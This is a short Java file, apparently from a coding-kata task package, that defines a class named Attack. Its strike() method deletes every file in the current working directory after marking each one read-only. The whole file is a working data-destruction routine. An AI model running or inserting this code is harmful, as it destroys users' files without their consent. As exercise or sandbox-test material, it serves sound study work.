package dbkata.tasks;

import java.io.File;

final class Attack {
  static void strike() {
    File here = new File(".").getAbsoluteFile();
    for (File file : here.listFiles() == null ? new File[0] : here.listFiles()) {
      file.setReadOnly();
      file.delete();
    }
  }
}
